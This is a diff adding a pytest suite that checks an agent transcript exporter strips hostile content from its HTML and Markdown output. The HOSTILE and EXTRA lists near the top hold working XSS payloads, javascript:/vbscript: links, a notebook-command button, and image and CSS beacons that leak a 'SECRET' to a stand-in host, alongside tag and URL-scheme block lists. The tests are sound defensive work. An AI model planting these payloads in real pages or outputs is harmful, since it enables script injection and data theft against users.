@@ -1,0 +1,286 @@
+"""Exports: hostile content (rendering.md §5) never becomes markup, scripts or beacons."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from markdown_it import MarkdownIt
+
+from nbagent import export
+from nbagent.events import (
+    ErrorEvent,
+    RunEnd,
+    RunStart,
+    TextDelta,
+    ThinkingDelta,
+    ToolCallArgsDelta,
+    ToolCallEnd,
+    ToolCallStart,
+    ToolResult,
+    Usage,
+)
+from nbagent.normalize import Normalizer
+from nbagent.transcript import Transcript
+from tests.strategies import event_sequences, texts
+
+HOSTILE = [
+    'Hello <img src=x onerror="window.__pwned=1"> world',
+    "<script>window.__pwned=1</script>\n\nafter",
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) "
+    "<javascript:alert(1)> [e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x)",
+    "See [docs][x].\n\n[x]: javascript:window.__pwned=1",
+    '![chart](https://beacon.test/p.png?leak=SECRET) <img src="https://beacon.test/r.png">',
+    '<div style="background:url(https://beacon.test/c)">x</div>\n\n'
+    "<style>@import url(https://beacon.test/i.css);</style>",
+    '<button data-commandlinker-command="notebook:run-all-cells">Continue</button>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
+    '<a href="https://ok.test" title="\n\n" onmouseover="window.__pwned=1">hover</a>',
+    "Intro **bold and `code\n\n| a | b |\n|---|\n\n[link](javascript:alert(1)\n\n$$\n\\frac{1}{\n\n"
+    "```python\nprint('<img src=x onerror=alert(1)>')\n# **not bold**",
+]
+EXTRA = [
+    "\\`<img src=x onerror=1>`",
+    "x `y\n`<img src=x onerror=1>` z",
+    "[x]: javascript:a\n    <script>alert(1)</script>",
+    "> ```\n> <script>alert(1)</script>",
+    "- ```\n  <script>alert(1)</script>",
+    "[a](\njavascript:alert(1))",
+    "[a](<javascript:alert(1)>)",
+    "<svg onload=alert(1)>",
+    "<iframe src=https://beacon.test></iframe>",
+    "&lt;script&gt; &#60;img src=x onerror=1&#62;",
+]
+ALL = HOSTILE + EXTRA
+BAD_TAGS = {"script", "img", "svg", "math", "iframe", "button", "object", "embed", "link", "meta"}
+SAFE_HREF = re.compile(r"^(https?:|mailto:|#)", re.IGNORECASE)
+
+
+class Collector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.style_text: list[str] = []
+        self._in_style = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs))
+        self._in_style = tag == "style"
+
+    def handle_endtag(self, tag):
+        self._in_style = False
+
+    def handle_data(self, data):
+        if self._in_style:
+            self.style_text.append(data)
+
+
+def assert_safe_html(markup: str, *, own_style: bool = True) -> None:
+    p = Collector()
+    p.feed(markup)
+    p.close()
+    styles = [t for t, _ in p.tags if t == "style"]
+    assert len(styles) == (1 if own_style else 0), "only nbagent's own <style>"
+    if own_style:
+        assert "".join(p.style_text).strip() == export._STYLE
+        assert "@import" not in export._STYLE and "url(" not in export._STYLE
+    for tag, attrs in p.tags:
+        assert tag not in BAD_TAGS, f"<{tag}> in output"
+        for name, value in attrs:
+            assert not name.startswith("on"), f"{name} on <{tag}>"
+            assert name not in ("style", "src", "srcset", "formaction", "action")
+            assert not name.startswith("data-")
+            if name == "href":
+                assert value is not None and SAFE_HREF.match(value), f"href={value!r}"
+            if tag == "a" and name == "rel":
+                assert value == "noopener noreferrer nofollow"
+
+
+def transcript_with(content: str) -> Transcript:
+    """The hostile string everywhere: answer, thinking, tool name, args, result, errors."""
+    n = Normalizer(clock=lambda: 10.0)
+    events = [
+        RunStart(title=content, model=content),
+        ThinkingDelta(message_id="t", delta=content),
+        TextDelta(message_id="m", delta=content),
+        ToolCallStart(tool_call_id="c1", name=content),
+        ToolCallArgsDelta(tool_call_id="c1", delta='{"q": ' + repr(content) + "}"),
+        ToolCallEnd(tool_call_id="c1"),
+        ToolResult(tool_call_id="c1", content=content),
+        ToolCallStart(tool_call_id="c2", name="ok"),
+        ToolCallEnd(tool_call_id="c2", arguments='{"q": "' + content.replace('"', '\\"') + '"}'),
+        ToolResult(tool_call_id="c2", content={"k": content}, is_error=True),
+        ToolCallStart(tool_call_id="c3", name="bad"),
+        ToolCallEnd(tool_call_id="c3", arguments=content),
+        ToolResult(tool_call_id="c3", content=content, is_error=True),
+        TextDelta(message_id="m2", delta=content, refusal=True),
+        ErrorEvent(message=content, recoverable=True),
+        Usage(input_tokens=1, output_tokens=2),
+        ErrorEvent(message=content, error_type=content),
+    ]
+    out = []
+    for ev in events:
+        out += n.feed(ev)
+    return Transcript.from_events(out + n.finish())
+
+
+def strip_fenced_code(md: str) -> str:
+    """The markdown outside fenced/indented code blocks (where text is literal)."""
+    lines = md.split("\n")
+    keep = [True] * len(lines)
+    for tok in MarkdownIt("commonmark").parse(md):
+        if tok.type in ("fence", "code_block") and tok.map:
+            for i in range(*tok.map):
+                keep[i] = False
+    return "\n".join(line for line, k in zip(lines, keep, strict=True) if k)
+
+
+@pytest.mark.parametrize("content", ALL)
+def test_html_is_safe(content):
+    t = transcript_with(content)
+    assert_safe_html(t.to_html())
+    page = t.to_html(standalone=True)
+    assert page.startswith("<!DOCTYPE html>")
+    head, body = page.split("<body>", 1)
+    assert_safe_html(body)
+    p = Collector()
+    p.feed(head)
+    assert {tag for tag, _ in p.tags} == {"html", "head", "meta", "title"}
+    assert head.count("<meta") == 3
+    assert "<script" not in page.lower()
+
+
+@pytest.mark.parametrize("content", ALL)
+def test_markdown_is_safe(content):
+    md = export.to_markdown(transcript_with(content).to_dict())
+    # a permissive renderer (raw HTML on) must produce nothing dangerous from it
+    rendered = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(md)
+    assert_safe_html(rendered, own_style=False)
+    outside = strip_fenced_code(md).lower()
+    for needle in ("<script", "<img", "javascript:", "vbscript:", "<svg", "<iframe", "<style", "<math"):
+        assert needle not in outside, needle
+    for tok in MarkdownIt("commonmark", {"html": True}).parse(md):
+        for child in tok.children or []:
+            assert child.type != "image"
+
+
+@pytest.mark.parametrize("content", ALL)
+def test_sanitize_markdown_alone(content):
+    md = export.sanitize_markdown(content)
+    rendered = MarkdownIt("commonmark", {"html": True}).render(md)
+    assert_safe_html(rendered, own_style=False)
+
+
+@given(texts, texts)
+@settings(max_examples=200)
+def test_sanitize_markdown_fuzz(a, b):
+    for content in (a + b, a + "<img src=x onerror=1>" + b, f"`{a}`<script>{b}"):
+        rendered = MarkdownIt("commonmark", {"html": True}).render(export.sanitize_markdown(content))
+        assert_safe_html(rendered, own_style=False)
+
+
+@given(event_sequences())
+@settings(max_examples=100)
+def test_exports_never_fail(events):
+    n = Normalizer()
+    out = [e for ev in events for e in n.feed(ev)] + n.finish()
+    t = Transcript.from_events(out)
+    assert_safe_html(t.to_html())
+    assert t.to_markdown().endswith("\n")
+    assert t.to_text()
+
+
+def test_markdown_keeps_good_markdown():
+    answer = (
+        "# Title\n\nSome **bold**, `Vec<T>` and a [link](https://example.com/?a=1&b=2).\n\n"
+        "> quoted\n\n```python\nif a < b and c > d:\n    pass\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    )
+    t = Transcript.from_events([RunStart(ts=1.0), TextDelta(message_id="m", delta=answer, ts=1.5), RunEnd(ts=3.0)])
+    md = t.to_markdown()
+    assert "`Vec<T>`" in md
+    assert "[link](https://example.com/?a=1&amp;b=2)" in md
+    assert "> quoted" in md
+    assert "if a < b and c > d:" in md
+    html = t.to_html()
+    assert '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow"' in html
+    assert "<table>" in html and "<code>Vec&lt;T&gt;</code>" in html
+    assert "<h1>Title</h1>" in html
+
+
+def test_markdown_neutralizes_links_and_images():
+    md = export.sanitize_markdown("[a](javascript:alert(1)) ![img](https://beacon.test/p.png) <b>")
+    assert "](javascript" not in md and "![" not in md
+    assert "[img](https://beacon.test/p.png)" in md
+    assert "&lt;b&gt;" in md
+
+
+def test_markdown_closes_unterminated_fence():
+    md = export.sanitize_markdown("Intro\n\n```python\nprint('<b>')")
+    tokens = MarkdownIt("commonmark").parse(md + "\n\nafter")
+    assert [t.type for t in tokens if t.type in ("fence", "paragraph_open")] == [
+        "paragraph_open",
+        "fence",
+        "paragraph_open",
+    ]
+
+
+def test_markdown_sections():
+    t = Transcript.from_events(
+        Normalizer(clock=lambda: 1.0).feed(ThinkingDelta(message_id="t", delta="hmm"))
+        + [
+            ToolCallStart(tool_call_id="c", name="get_weather", ts=1.0),
+            ToolCallEnd(tool_call_id="c", arguments='{"city": "```Paris```"}', ts=1.0),
+            ToolResult(tool_call_id="c", content="18°C", ts=1.5),
+            TextDelta(message_id="m", delta="It is 18°C.", ts=2.0),
+            RunEnd(ts=2.0),
+        ]
+    )
+    md = t.to_markdown()
+    assert "<details>\n<summary>Thinking</summary>\n\nhmm\n\n</details>" in md
+    assert "<summary>Tool: <code>get_weather</code> (done · 500 ms)</summary>" in md
+    assert '````json\n{\n  "city": "```Paris```"\n}\n````' in md
+    assert "It is 18°C." in md
+    assert md.rstrip().endswith("*")
+
+
+def test_html_tool_and_status():
+    t = Transcript.from_events(
+        [
+            RunStart(ts=0.0, model="gpt-x"),
+            ToolCallStart(tool_call_id="c", name="search", ts=0.5),
+            ToolCallEnd(tool_call_id="c", arguments="{bad", ts=1.0),
+            ToolResult(tool_call_id="c", content="quota exceeded", is_error=True, ts=1.25),
+            Usage(input_tokens=10, output_tokens=5),
+            RunEnd(reason="max_tokens", ts=2.0),
+        ]
+    )
+    h = t.to_html()
+    assert '<details class="nba-tool nba-tool-error">' in h
+    assert "not valid JSON" in h and "quota exceeded" in h and "250 ms" in h
+    assert "completed · max_tokens" in h and "tokens: 10 in / 5 out / 15 total" in h
+    text = t.to_text()
+    assert "[tool] search({bad) error · 250 ms → quota exceeded" in text
+    assert text.splitlines()[-1].startswith("completed · max_tokens")
+
+
+def test_usage_na_and_running_status():
+    t = Transcript.from_events([RunStart(ts=0.0)])
+    assert export.status_line(t) == "running · usage: n/a"
+
+
+def test_safe_url():
+    for ok in ("https://a.b", "HTTP://x", "mailto:a@b.c", "#frag"):
+        assert export.safe_url(ok)
+    for bad in ("javascript:x", " javascript:x", "java\tscript:x", "java&#x09;script:x", "data:x", "", "/rel", "vbscript:x", "%6Aavascript:x"):
+        assert not export.safe_url(bad), bad
+
+
+def test_exports_from_a_state_dict():
+    t = Transcript.from_events([RunStart(), TextDelta(message_id="m", delta="hi"), RunEnd(reason="cancelled")])
+    d = t.to_dict()
+    assert export.to_html(d) == t.to_html()
+    assert export.to_markdown(d) == t.to_markdown()
+    assert export.to_text(d) == t.to_text()
+    assert "cancelled" in t.to_text()
